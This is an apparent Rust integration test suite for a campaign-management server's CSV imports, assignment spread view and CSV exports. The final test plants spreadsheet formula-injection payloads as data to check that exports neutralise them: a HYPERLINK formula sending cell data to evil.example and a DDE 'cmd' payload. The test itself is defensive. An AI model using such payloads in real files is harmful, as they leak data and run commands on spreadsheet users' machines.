//! Setting up a campaign through the API: companies and assignments from CSV (every bad row named, nothing
//! stored), single assignments, the spread view, and the CSV exports.

use crate::common::*;
use reqwest::StatusCode;
use serde_json::{json, Value};
use shopper_server::demo;

async fn post_text(server: &TestServer, path: &str, body: &str) -> (StatusCode, Value) {
    let response = server
        .http
        .post(server.url(path))
        .bearer_auth(ORGANIZER_TOKEN)
        .header("content-type", "text/csv")
        .body(body.to_owned())
        .send()
        .await
        .unwrap();
    (response.status(), response.json().await.unwrap())
}

async fn get_text(server: &TestServer, path: &str) -> (StatusCode, String) {
    let response = server
        .http
        .get(server.url(path))
        .bearer_auth(ORGANIZER_TOKEN)
        .send()
        .await
        .unwrap();
    (response.status(), response.text().await.unwrap())
}

fn row_errors(body: &Value) -> Vec<String> {
    body["error"]["row_errors"]
        .as_array()
        .unwrap_or_else(|| panic!("{body}"))
        .iter()
        .map(|e| format!("{}: {}", e["line"], e["message"].as_str().unwrap()))
        .collect()
}

async fn count(server: &TestServer, table: &str) -> i64 {
    sqlx::query_as::<_, (i64,)>(&format!("SELECT COUNT(*) FROM {table}"))
        .fetch_one(&server.db)
        .await
        .unwrap()
        .0
}

#[tokio::test]
async fn a_company_list_with_bad_rows_names_each_and_stores_nothing_then_a_good_one_is_taken() {
    let server = TestServer::start().await;
    let before = count(&server, "companies").await;
    let bad =
        "class,company\nBank,Nordbanken (demo)\nBank,\nBank,Lendo\nTelekom,Nordbanken (demo)\n";
    let (status, body) = post_text(&server, "/api/v1/organizer/companies/import", bad).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        row_errors(&body),
        vec![
            "3: company is empty",
            "4: company \"Lendo\" is already in the campaign",
            "5: company \"Nordbanken (demo)\" is already in the campaign",
        ]
    );
    assert_eq!(count(&server, "companies").await, before, "nothing stored");

    let good = "class,company\nBank,Nordbanken (demo)\nTelekom,Ringeklar (demo)\n";
    let (status, body) = post_text(&server, "/api/v1/organizer/companies/import", good).await;
    assert_eq!(
        (
            status,
            body["companies_created"].as_u64(),
            body["classes_created"].as_u64()
        ),
        (StatusCode::CREATED, Some(2), Some(1))
    );
    assert_eq!(count(&server, "companies").await, before + 2);

    let (status, body) = post_text(
        &server,
        "/api/v1/organizer/companies/import",
        "class,company\n",
    )
    .await;
    assert_eq!(
        (status, row_errors(&body).len()),
        (StatusCode::UNPROCESSABLE_ENTITY, 1),
        "an empty file is an error"
    );
}

#[tokio::test]
async fn assignments_come_from_csv_or_one_by_one_reach_the_shopper_and_show_in_the_spread() {
    let server = TestServer::start().await;
    let before = count(&server, "assignments").await;
    let header = "company,channel,scenario,shopper,contact,window_start,window_end,due";
    let bad = format!(
        "{header}\n\
         Hertz,phone,Leie bil,Kari Nordmann (demo),tel:+4712345678,2026-12-01,2026-12-10,2026-12-10\n\
         Nowhere AS,phone,x,Kari Nordmann (demo),tel:1,2026-12-01,2026-12-10,2026-12-10\n\
         Hertz,fax,x,Kari Nordmann (demo),tel:1,2026-12-01,2026-12-10,2026-12-10\n\
         Hertz,chat,x,Nobody,https://x,2026-12-01,2026-12-10,2026-12-10\n\
         Hertz,chat,x,demo-shopper-2,https://x,2026-12-31,2026-12-10,2026-12-10\n\
         Hertz,email,x,demo-shopper-2,mailto:a@b,1. desember,2026-12-10,2026-12-10\n"
    );
    let (status, body) = post_text(&server, "/api/v1/organizer/assignments/import", &bad).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        row_errors(&body),
        vec![
            "3: no company \"Nowhere AS\"",
            "4: channel \"fax\" is not phone, chat or email",
            "5: no shopper \"Nobody\"",
            "6: window_start is after window_end",
            "7: window_start \"1. desember\" is not a date (YYYY-MM-DD or YYYY-MM-DDTHH:MM)",
        ]
    );
    assert_eq!(count(&server, "assignments").await, before);

    let good = format!(
        "{header}\nHertz,phone,Leie bil,Kari Nordmann (demo),tel:+4712345678,2026-12-01,2026-12-10T16:00,2026-12-10\n\
         Trumf,chat,Poeng,demo-shopper-2,https://example.com/chat,2026-12-01,2026-12-10,2026-12-10\n"
    );
    let (status, body) = post_text(&server, "/api/v1/organizer/assignments/import", &good).await;
    assert_eq!(
        (status, body["created"].as_u64()),
        (StatusCode::CREATED, Some(2))
    );
    let single = server
        .http
        .post(server.url("/api/v1/organizer/assignments"))
        .bearer_auth(ORGANIZER_TOKEN)
        .json(&json!({ "company": "Kolumbus", "channel": "email", "scenario": "Busskort", "shopper": "Kari Nordmann (demo)",
                       "contact": "mailto:kundeservice@example.com", "window_start": "2026-12-01", "window_end": "2026-12-05", "due": "2026-12-05" }))
        .send()
        .await
        .unwrap();
    assert_eq!(single.status(), StatusCode::CREATED);

    let token = server.sign_in(demo::SECOND_SHOPPER_ID).await;
    let mine = server.assignments(&token).await;
    let companies: Vec<&str> = mine["assignments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["company"].as_str().unwrap())
        .collect();
    for company in ["Hertz", "Trumf", "Kolumbus"] {
        assert!(companies.contains(&company), "{companies:?}");
    }

    let (status, spread) = get_text(&server, "/api/v1/organizer/assignments/spread").await;
    assert_eq!(status, StatusCode::OK);
    let spread: Value = serde_json::from_str(&spread).unwrap();
    assert_eq!(spread["by_shopper"]["Kari Nordmann (demo)"], 4);
    assert_eq!(spread["by_company"]["Hertz"], 1);
    assert_eq!(
        spread["by_company"]["Lowell"], 0,
        "companies without assignments show as 0"
    );
    assert!(spread["by_channel"]["email"].as_i64().unwrap() >= 2);
}

#[tokio::test]
async fn evaluations_and_scores_export_as_csv_one_row_each_one_column_per_question() {
    let server = TestServer::start().await;
    let (_, _, id) = server.pushed_evaluation().await; // asserts 201 Created
    review(&server, id, json!({ "revision": 1, "decision": "approve" })).await;

    let (status, text) = get_text(&server, "/api/v1/organizer/export/evaluations.csv").await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "evaluation_id");
    assert_eq!(
        headers.len(),
        10 + 43,
        "ten fixed columns and one per question"
    );
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 1);
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = &records[0];
    assert_eq!(
        (
            &row[column("evaluation_id")],
            &row[column("status")],
            &row[column("company")]
        ),
        (id.to_string().as_str(), "approved", "Lendo")
    );
    assert_eq!(
        (
            &row[column("presentasjon")],
            &row[column("tilbud_ekstra")],
            &row[column("kom_fram")]
        ),
        ("yes", "n/a", "forste")
    );
    assert_eq!(&row[column("notes")], "Ventet 2 minutter i kø");
    assert!(row[column("percent")].parse::<f64>().unwrap() > 50.0);

    let (status, scores) = get_text(&server, "/api/v1/organizer/export/scores.csv").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        scores.starts_with(
            "class,rank,tied,company,percent,evaluations,rank_interval,contacts,not_reached,total,answered,agent,nps,nps_n\n"
        ),
        "{scores}"
    );
    let lendo: Vec<&str> = scores
        .lines()
        .find(|l| l.starts_with("Lån og finansformidling,") && l.contains(",Lendo,"))
        .unwrap()
        .split(',')
        .collect();
    assert_eq!(
        (lendo[1], lendo[5], lendo[6], lendo[7], lendo[8]),
        ("1", "1", "1", "1", "0"),
        "rank, evaluations, rank interval, contacts, not reached; {scores}"
    );
    assert_eq!(lendo[4], lendo[9], "ranked by the total");
    assert!(lendo[9].parse::<f64>().unwrap() > 50.0);
    assert_eq!(
        scores.lines().count(),
        1 + 60,
        "every company of the 20 classes"
    );
}

#[tokio::test]
async fn names_notes_and_answers_a_spreadsheet_would_run_are_exported_as_text() {
    let server = TestServer::start().await;
    let company = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikk\")";
    let class = "+Bank";
    let shopper = "@Mallory";
    let notes = "-2+3 ventet";
    let best = "\tcmd|' /C calc'!A0";
    let csv = format!(
        "class,company\n\"{class}\",\"{}\"\n",
        company.replace('"', "\"\"")
    );
    let (status, body) = post_text(&server, "/api/v1/organizer/companies/import", &csv).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let created: Value = server
        .http
        .post(server.url("/api/v1/organizer/shoppers"))
        .bearer_auth(ORGANIZER_TOKEN)
        .json(&json!({ "name": shopper }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let shopper_id = created["id"].as_str().unwrap().to_owned();
    let response = server
        .http
        .post(server.url("/api/v1/organizer/assignments"))
        .bearer_auth(ORGANIZER_TOKEN)
        .json(&json!({
            "company": company, "channel": "phone", "scenario": "=1+1", "shopper": shopper_id,
            "contact": "tel:+4700000000", "window_start": "2026-01-05", "window_end": "2026-12-18",
            "due": "2026-12-18"
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
    let token = server.sign_in(&shopper_id).await;
    let assignment = first_assignment(&server, &token).await;
    let mut answers = valid_answers();
    answers["beste"] = json!(best);
    let mut body = submission(&assignment, 1, answers);
    body["content"]["notes"] = json!(notes);
    let id = uuid::Uuid::new_v4();
    let (status, pushed) = server.push(Some(&token), id, &body).await;
    assert_eq!(status, StatusCode::CREATED, "{pushed}");
    review(&server, id, json!({ "revision": 1, "decision": "approve" })).await;

    let (_, text) = get_text(&server, "/api/v1/organizer/export/evaluations.csv").await;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_owned();
    let (_, scores) = get_text(&server, "/api/v1/organizer/export/scores.csv").await;
    let mut reader = csv::Reader::from_reader(scores.as_bytes());
    let score_row = reader
        .records()
        .map(Result::unwrap)
        .find(|r| &r[0] == "'+Bank")
        .expect("the class is written as text");
    for (written, original) in [
        (cell("company"), company),
        (cell("class"), class),
        (cell("shopper"), shopper),
        (cell("notes"), notes),
        (cell("beste"), best),
        (score_row[0].to_owned(), class),
        (score_row[3].to_owned(), company),
    ] {
        assert_eq!(
            written,
            format!("'{original}"),
            "a spreadsheet shows it as text"
        );
        assert_eq!(
            shopper_server::campaign::original_cell(&written),
            original,
            "and it reads back as written"
        );
    }
    assert_eq!(cell("ventetid"), "25", "numbers stay numbers");
}
